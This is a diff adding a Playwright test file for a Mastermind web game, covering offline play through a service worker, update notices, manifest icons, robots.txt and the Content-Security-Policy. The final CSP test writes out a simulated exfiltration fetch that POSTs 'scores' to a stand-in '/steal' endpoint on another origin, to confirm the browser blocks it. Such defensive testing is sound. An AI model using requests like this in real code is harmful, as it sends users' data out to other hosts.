@@ -1,0 +1,178 @@
+// Installable and offline (SPEC 10, issue 15): the service worker, the manifest, the first paint,
+// robots.txt and the Content-Security-Policy. The service worker is allowed here only (the
+// other specs block it), and the tests that need one serve their own copy of dist/ on their own
+// port, so that a "rebuild" changes nothing for the other tests.
+import { test, expect, button, playRow, flag, revealedKey, expectNoAxeViolations } from './fixtures';
+import type { Page } from '@playwright/test';
+import { spawn, type ChildProcess } from 'node:child_process';
+import fs from 'node:fs';
+import net from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+
+test.use({ serviceWorkers: 'allow' });
+
+type Site = { url: string; dir: string; server: ChildProcess };
+
+async function freePort(): Promise<number> {
+  return new Promise((resolve) => {
+    const s = net.createServer().listen(0, '127.0.0.1', () => {
+      const port = (s.address() as net.AddressInfo).port;
+      s.close(() => resolve(port));
+    });
+  });
+}
+
+/** Serves a fresh copy of dist/ the way a static host would. */
+async function serveCopy(): Promise<Site> {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mastermind-dist-'));
+  fs.cpSync(path.resolve(__dirname, '../../dist'), dir, { recursive: true });
+  const port = await freePort();
+  const server = spawn('node', [path.resolve(__dirname, 'serve.mjs'), dir, String(port)], { stdio: 'ignore' });
+  const url = `http://127.0.0.1:${port}`;
+  for (let i = 0; i < 50; i++) {
+    try {
+      if ((await fetch(url)).ok) break;
+    } catch {
+      await new Promise((r) => setTimeout(r, 100));
+    }
+  }
+  return { url, dir, server };
+}
+
+function stop(site: Site) {
+  site.server.kill();
+  fs.rmSync(site.dir, { recursive: true, force: true });
+}
+
+/** Waits until the service worker controls the page and has cached the build. */
+async function controlled(page: Page) {
+  await expect
+    .poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null), { timeout: 15_000 })
+    .toBe(true);
+}
+
+test('after one visit the game opens from a deep link and plays to a saved score offline', async ({ page, context }) => {
+  const site = await serveCopy();
+  try {
+    await page.goto(`${site.url}/`);
+    await expect(page.getByRole('link', { name: 'Play' })).toBeVisible();
+    await controlled(page);
+
+    await context.setOffline(true);
+    await page.reload();
+    await expect(page.getByRole('link', { name: 'Play' })).toBeVisible();
+    // A deep link that was never visited online, with a seeded key; quitting shows the key.
+    await page.goto(`${site.url}/play/2?seed=808`);
+    await button(page, 'Quit the game').click();
+    const key = await revealedKey(page);
+    await page.goto(`${site.url}/play/2?seed=808`);
+    await expect(button(page, 'Row 1, hole 1: empty')).toBeVisible();
+    await playRow(page, key);
+    await expect(flag(page)).toHaveText(/^You won/);
+    const dialog = page.getByRole('dialog', { name: 'New high score' });
+    await dialog.getByRole('textbox', { name: 'Name' }).fill('Offline');
+    await dialog.getByRole('button', { name: 'Save' }).click();
+    await page.goto(`${site.url}/scores/2`);
+    await expect(page.getByRole('table').getByText('Offline')).toBeVisible();
+    // The solver's worker comes from the cache too.
+    await page.goto(`${site.url}/play/1?seed=3`);
+    await playRow(page, ['red', 'red', 'green', 'green']);
+    await page.getByRole('checkbox', { name: 'Solver aids' }).click();
+    await button(page, 'Turn on').click();
+    await expect(page.getByText(/^Possible keys: \d+$/)).toBeVisible();
+  } finally {
+    await context.setOffline(false);
+    stop(site);
+  }
+});
+
+test('a rebuilt version is announced, and Reload brings it in without leaving an old cache', async ({ page }) => {
+  const site = await serveCopy();
+  try {
+    await page.goto(`${site.url}/play/1`);
+    await expect(button(page, 'Row 1, hole 1: empty')).toBeVisible();
+    await controlled(page);
+    const before = await page.evaluate(() => caches.keys());
+    expect(before).toHaveLength(1);
+    await expect(page.getByText('A new version is ready')).toHaveCount(0);
+
+    // A rebuild: a changed file gives the service worker a new version.
+    const swPath = path.join(site.dir, 'sw.js');
+    const sw = fs.readFileSync(swPath, 'utf8');
+    fs.writeFileSync(swPath, sw.replace(/const VERSION = '([0-9a-f]+)'/, "const VERSION = '$1-rebuilt'"));
+    fs.appendFileSync(path.join(site.dir, 'robots.txt'), '# rebuilt\n');
+    await playRow(page, ['red', 'green', 'blue', 'yellow']);
+    await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r?.update()));
+
+    // The game goes on untouched until the player chooses to reload.
+    await expect(page.getByText('A new version is ready')).toBeVisible({ timeout: 15_000 });
+    await expect(page.getByText(/^Row 1: \d black, \d white$/)).toBeAttached();
+    await expectNoAxeViolations(page, 'the update notice');
+    await button(page, 'Reload').click();
+    await expect(page.getByText('A new version is ready')).toHaveCount(0);
+    await expect(page.getByText(/^Row 1: \d black, \d white$/)).toBeAttached();
+    await expect.poll(() => page.evaluate(() => caches.keys())).toEqual([expect.stringMatching(/-rebuilt$/)]);
+  } finally {
+    stop(site);
+  }
+});
+
+test('the manifest parses and its icons have the declared sizes; robots.txt is text', async ({ request }) => {
+  const manifest = await (await request.get('/manifest.webmanifest')).json();
+  expect(manifest).toMatchObject({ name: 'Mastermind', short_name: 'Mastermind', start_url: '/', scope: '/', display: 'standalone' });
+  expect(manifest.theme_color).toMatch(/^#[0-9a-f]{6}$/);
+  expect(manifest.background_color).toMatch(/^#[0-9a-f]{6}$/);
+  expect(manifest.icons.map((i: { purpose: string }) => i.purpose)).toEqual(['any', 'any', 'maskable']);
+  for (const icon of manifest.icons) {
+    const response = await request.get(icon.src);
+    expect(response.headers()['content-type']).toBe('image/png');
+    const png = await response.body();
+    // A PNG's IHDR chunk: width and height as big-endian numbers at bytes 16 and 20.
+    expect(`${png.readUInt32BE(16)}x${png.readUInt32BE(20)}`).toBe(icon.sizes);
+  }
+  const robots = await request.get('/robots.txt');
+  expect(robots.headers()['content-type']).toMatch(/^text\/plain/);
+  expect(await robots.text()).toMatch(/^User-agent: \*/m);
+});
+
+test('the first paint in index.html shows the title the mounted app shows', async ({ page, request }) => {
+  const html = await (await request.get('/play/3')).text();
+  const painted = html.match(/<div id="first-paint">[\s\S]*?<h1>([^<]+)<\/h1>/)?.[1];
+  expect(painted).toBe('Mastermind');
+  await page.goto('/');
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(painted!);
+  await expect(page.locator('#first-paint')).toHaveCount(0);
+  await expect(page.getByRole('banner')).toHaveCount(1);
+});
+
+test('the CSP lets nothing leave the page, and no page breaks it', async ({ page, consoleErrors }) => {
+  await page.addInitScript(() => {
+    const w = window as unknown as { violations: string[] };
+    w.violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => w.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
+  });
+  const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+  for (const route of ['/', '/play', '/play/1', '/play/3', '/daily', '/custom', '/scores/1', '/stats/1', '/rules', '/computer', '/match', '/nowhere']) {
+    await page.goto(route);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    expect(await violations(), route).toEqual([]);
+  }
+  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  expect(csp).toContain("connect-src 'self'");
+  expect(csp).toContain("object-src 'none'");
+  expect(csp).not.toContain('unsafe-inline');
+  // A script trying to send something to another origin is refused by the browser.
+  const outcome = await page.evaluate(() =>
+    fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'scores' }).then(
+      () => 'sent',
+      () => 'refused',
+    ),
+  );
+  expect(outcome).toBe('refused');
+  await expect.poll(violations).toEqual(['connect-src http://127.0.0.2:9/steal']);
+  // The browser reports the refusal on the console: that one is expected.
+  const others = consoleErrors.filter((e) => !/Content Security Policy|127\.0\.0\.2/.test(e));
+  consoleErrors.length = 0;
+  expect(others).toEqual([]);
+});
